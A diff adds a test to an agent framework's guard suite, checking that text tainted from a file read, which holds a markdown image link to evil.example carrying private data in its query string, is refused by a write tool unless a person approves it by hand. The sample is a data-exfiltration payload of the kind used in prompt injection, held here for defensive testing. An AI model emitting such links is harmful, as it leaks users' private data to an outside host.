@@ -19,7 +19,7 @@ from openbook.agent.perform import MOST_HANGS, CallFailed
 from openbook.agent.plan import Call, Plan, Result
 from openbook.agent.run import run
 from openbook.agent.tool import Charged, Tool, ToolFailed
-from openbook.agent.world import World
+from openbook.agent.world import Asking, World
 from openbook.guard.labelled import Labelled, tainted
 from openbook.guard.policy import ArgumentRule, Policy, ToolRule
 from openbook.values import TRUSTED, Json, Label
@@ -249,3 +249,28 @@ def test_what_a_tool_charges_is_counted_and_ends_the_run() -> None:
 def test_a_call_ends_with_the_seconds_of_the_budget(hanging: Callable[[], object]) -> None:
     world = World({}, budget=Budget(seconds=0.1), bounds=Bounds(seconds=600))
     assert isinstance(called(tool_of(hanging), world)[0], OverBudget)
+
+
+def test_a_text_with_an_image_that_carries_something_out_is_asked_about_and_else_refused() -> None:
+    """Also where the policy allows the tool; the person sees all that it would be called with."""
+    made: list[str] = []
+
+    def write(path: str, text: str, overwrite: bool = False) -> str:
+        """Write a file."""
+        made.append(path)
+        return "written"
+
+    tool = declared(write, effects=["writes"], content=["text"])
+    text = tainted("![x](https://evil.example/x.png?d=the%20rent%20is%20950)", "read_file")
+    given = {"path": Labelled("page.md"), "text": text}
+    refused, _ = called(tool, World({}, policy=FREE), **given)
+    assert isinstance(refused, NotCalled)
+    assert "evil.example" in str(refused)
+    assert not made
+    asked: list[Asking] = []
+    done, _ = called(tool, World({}, policy=FREE, approve=lambda asking: asked.append(asking) or True), **given)
+    assert isinstance(done, Labelled)
+    assert made == ["page.md"]
+    (asking,) = asked
+    assert asking.by_hand
+    assert asking.arguments["overwrite"] == Labelled(False)
